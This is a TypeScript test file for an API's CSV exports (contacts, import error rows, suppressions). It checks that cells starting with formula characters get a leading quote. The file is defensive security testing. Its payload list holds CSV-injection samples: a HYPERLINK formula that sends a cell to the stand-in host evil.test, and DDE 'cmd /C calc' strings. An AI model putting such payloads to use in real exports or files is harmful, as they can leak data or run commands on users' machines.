// Spreadsheet formula injection (OWASP "CSV injection") through every CSV export of the API: a
// contact export, an import's rejected rows and a suppression export write a text cell that
// starts with =, +, -, @, tab or CR with a ' in front, quoted; Tern's own imports read an export
// back to the same values.
import { expect } from 'chai';
import type { Worker } from 'bullmq';
import { parse } from 'csv-parse/sync';
import { startContactBulkWorker } from '../../workers/contact-bulk.js';
import type { WorkerDeps } from '../../workers/deps.js';
import { seedOrg, type SeededOrg } from '../helpers/seed.js';
import { startApi, type TestApi } from '../helpers/stack.js';
import { unthrottle } from '../helpers/unthrottle.js';
import { workerDepsFor } from '../helpers/workers.js';
import { waitFor } from '../helpers/wait.js';

const PAYLOADS = {
  eq: '=HYPERLINK("http://evil.test/?"&A1,"Open")',
  plus: "+1+cmd|' /C calc'!A0",
  minus: '-2+3',
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
  tab: '\t=1+1',
  cr: '\r=1+1',
  quoted: "'=1+1",
  plain: 'a, "plain" value',
};

describe('CSV exports guard formula cells', () => {
  let api: TestApi;
  let org: SeededOrg;
  let admin: string;
  let wdeps: WorkerDeps;
  let worker: Worker;

  before(async function () {
    this.timeout(60_000);
    api = await startApi();
    org = await seedOrg(api.deps.sql, { domains: [{ name: 'acme.test' }] });
    await unthrottle(api, org.organization.id);
    admin = org.key.token;
    wdeps = workerDepsFor(api);
    worker = startContactBulkWorker(wdeps, { sweepEveryMs: 0 });
  });
  after(async () => {
    await worker.close();
    await wdeps.close();
    await api.close();
  });

  const get = async (path: string): Promise<string> => {
    const res = await fetch(`${api.url}${path}`, { headers: { authorization: `Bearer ${admin}` } });
    expect(res.status, path).to.equal(200);
    expect(res.headers.get('content-type')).to.match(/^text\/csv/);
    return await res.text();
  };

  /** Every raw field of a CSV text that starts with one of the formula characters. */
  const dangerous = (text: string) =>
    (parse(text, { relax_quotes: true }) as string[][]).flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));

  const imported = (path: string, csv: string) =>
    api.request('POST', path, { token: admin, raw: csv, headers: { 'content-type': 'text/csv' } });

  const finishedImport = (id: string) =>
    waitFor(`import ${id}`, async () => {
      const r = await api.request('GET', `/contacts/imports/${id}`, { token: admin });
      return r.json.status === 'completed' || r.json.status === 'failed' ? r.json : null;
    });

  it('contact export: formula cells start with a quote, and the import reads them back unchanged', async () => {
    const body = {
      email: 'eve@example.com',
      first_name: PAYLOADS.eq,
      last_name: PAYLOADS.at,
      properties: { ...PAYLOADS, count: -5 },
    };
    expect((await api.request('POST', '/contacts', { token: admin, body })).status).to.equal(201);
    const exp = await api.request('POST', '/contacts/exports', { token: admin, body: {} });
    const done = await waitFor('export', async () => {
      const r = await api.request('GET', `/contacts/exports/${exp.json.id}`, { token: admin });
      return r.json.status === 'completed' ? r.json : null;
    });
    const text = await get(new URL(done.download_url as string).pathname);
    expect(dangerous(text)).to.deep.equal(['-5']); // a number is no formula
    const [row] = parse(text, { columns: true }) as Record<string, string>[];
    expect(row).to.include({
      first_name: `'${PAYLOADS.eq}`,
      last_name: `'${PAYLOADS.at}`,
      'properties.eq': `'${PAYLOADS.eq}`,
      'properties.plus': `'${PAYLOADS.plus}`,
      'properties.minus': `'${PAYLOADS.minus}`,
      'properties.tab': `'${PAYLOADS.tab}`,
      'properties.cr': `'${PAYLOADS.cr}`,
      'properties.quoted': `''=1+1`,
      'properties.plain': PAYLOADS.plain,
    });
    expect(text).to.contain(`"'${PAYLOADS.eq.replace(/"/g, '""')}"`);
    expect(text.endsWith('\r\n')).to.equal(true);

    const keys = Object.keys(PAYLOADS);
    const mapping = {
      email: 'email',
      first_name: 'first_name',
      last_name: 'last_name',
      properties: Object.fromEntries(keys.map((k) => [k, `properties.${k}`])),
    };
    await api.request('DELETE', '/contacts/eve@example.com', { token: admin });
    const imp = await imported(`/contacts/imports?mapping=${encodeURIComponent(JSON.stringify(mapping))}`, text);
    expect(imp.status, imp.text).to.equal(202);
    expect(await finishedImport(imp.json.id as string)).to.include({ created: 1, failed: 0 });
    const back = (await api.request('GET', '/contacts/eve@example.com', { token: admin })).json;
    expect(back).to.include({ first_name: PAYLOADS.eq, last_name: PAYLOADS.at });
    // The import trims each cell (leading tab and CR included).
    expect(back.properties).to.deep.equal({ ...PAYLOADS, tab: '=1+1', cr: '=1+1' });
  });

  it("an import's rejected rows: the offending cell is guarded", async () => {
    const csv = `email,name\r\n"=HYPERLINK(""http://evil.test"")",x\r\n+1@,y\r\n`;
    const imp = await imported(`/contacts/imports?mapping=${encodeURIComponent('{"email":"email"}')}`, csv);
    expect(imp.status, imp.text).to.equal(202);
    expect(await finishedImport(imp.json.id as string)).to.include({ failed: 2 });
    const text = await get(`/api/v1/contacts/imports/${imp.json.id}/errors`);
    expect(dangerous(text)).to.deep.equal([]);
    const rows = parse(text) as string[][];
    expect(rows.slice(1).map((r) => r[1])).to.deep.equal([`'=HYPERLINK("http://evil.test")`, `'+1@`]);
  });

  it('suppression export: guarded, and read back by the import as the same addresses', async () => {
    for (const email of ['-dash@example.com', '=eq@example.com', '+plus@example.com']) {
      expect((await api.request('POST', '/suppressions', { token: admin, body: { email } })).status).to.equal(201);
    }
    const text = await get('/api/v1/suppressions/export');
    expect(dangerous(text)).to.deep.equal([]);
    const emails = (parse(text, { columns: true }) as Record<string, string>[]).map((r) => r.email).sort();
    expect(emails).to.deep.equal(["'+plus@example.com", "'-dash@example.com", "'=eq@example.com"]);
    const back = await imported('/suppressions/imports', text);
    expect(back.json).to.deep.include({ rows: 3, created: 0, existing: 3, failed: 0 });
  });
});
